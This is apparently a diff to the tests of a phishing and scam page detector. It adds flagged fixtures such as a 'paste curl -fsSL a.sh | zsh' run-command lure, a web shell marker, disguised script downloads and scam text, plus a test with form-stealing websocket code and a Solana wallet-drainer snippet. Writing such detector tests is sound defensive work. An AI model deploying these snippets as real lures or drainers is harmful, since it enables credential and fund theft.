@@ -31,6 +31,21 @@ FOUND = {
     ),
     "UNTRACEABLE_PAYMENT": ("Donate today for the victims: 0x51aF7d2C8b3E4a5F60718293a4B5c6D7e8F90a1B", HOME),
     "FAKE_SHOP_SIGNS": ("<p><s>$799.00</s> $59.99</p><p><s>$649.00</s> $49.99</p>", HOME),
+    "PIN_WITH_PHONE": ("<form><input name=pin type=password><input name=mobile></form>", HOME),
+    "MESSENGER_CODE": (
+        "<p>Enter this code in WhatsApp, Linked devices</p><form><input name=phone></form>",
+        "https://chat-whatsapp-family.example.net/",
+    ),
+    "NAME_WITH_WORD_IN_HOST": (UNION, "https://lakeshore-verification.com/"),
+    "BRAND_NAMED_AT_FORM": ("<p>Interview with us. Log in to Facebook.</p>" + LOGIN, HOME),
+    "WEB_SHELL": ("<p>Uname: Linux web12 [ FilesMan ]</p><form><input type=password name=p></form>", HOME),
+    "RUN_COMMAND_LURE": (
+        "Your audio driver is missing. To join the meeting, open Terminal, paste this and press Return: curl -fsSL a.sh | zsh",
+        HOME,
+    ),
+    "OFFERS_DISGUISED_PROGRAM": ('<a href="/get/AnyConnect_Setup.js">Download</a>', HOME),
+    "PASSWORDED_ARCHIVE": ('The archive is protected. Password: obs2025 <a href="/a.zip">Download</a>', HOME),
+    "INVESTMENT_SCAM": ("Zarabiaj 900 zł dziennie, zysk gwarantowany, bez ryzyka.<form><input name=t></form>", HOME),
     "FAKE_UPDATE": (
         "<p>You use an older version of Firefox.</p><script>a.download='Firefox.Update.js';a.click()</script>",
         HOME,
@@ -51,6 +66,9 @@ HONEST = {
         + "".join(f'<a href="/{each}">{each}</a>' for each in ("prices", "team", "contact")),
         HOME,
     ),
+    "other ways in": ("<p>Sign in with Microsoft</p>" + LOGIN, HOME),
+    "a fund": ("<p>Zysk nie jest gwarantowany. Wpłata 900 zł.</p><form><input name=t></form>", HOME),
+    "a source": ('<a href="https://github.com/a/b/blob/main/setup_tool.js">setup_tool.js</a>', HOME),
     "an old browser": ("<p>Your browser is outdated.</p><a href='/help'>Help</a>", HOME),
 }
 
@@ -83,6 +101,15 @@ def test_fans_say_that_they_are_fans() -> None:
 )
 def test_hosts_that_carry_addresses_of_others(host: str, kind: str) -> None:
     assert kind in address.judge_host(host)
+
+
+def test_what_scripts_do_behind_a_form() -> None:
+    modal = "s=io('wss://panel-rt.site');f.onsubmit=e=>s.emit('d',Object.fromEntries(new FormData(f)))"
+    assert "SECRETS_SENT_BY_SCRIPT" in of_script(f"{LOGIN}<script>{modal}</script>")
+    hidden = "document.onvisibilitychange=()=>location.replace('https://accounts-google-signin.top/x')"
+    assert "SENT_TO_ODD_HOST" in of_script(f"<script>{hidden}</script>")
+    drains = "solana.connect();b=c.getBalance(k);t.add(SystemProgram.transfer({lamports:b-5000}))"
+    assert "WALLET_DRAINER" in of_script(f"<p>Claim your rewards</p><script>window.solana;{drains}</script>")
 
 
 def test_robots_are_sent_to_the_brand() -> None:
